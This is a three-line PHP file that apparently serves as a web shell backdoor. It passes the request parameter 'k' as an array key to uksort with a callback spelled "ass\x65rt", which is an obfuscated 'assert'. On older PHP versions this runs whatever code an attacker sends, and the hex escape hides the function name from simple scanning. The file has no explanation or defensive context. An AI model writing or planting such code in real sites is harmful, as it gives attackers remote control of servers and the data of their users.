<?php
$list = new ArrayObject([$_REQUEST['k'] => 1, 'x' => 2]);
$list->uksort("ass\x65rt");
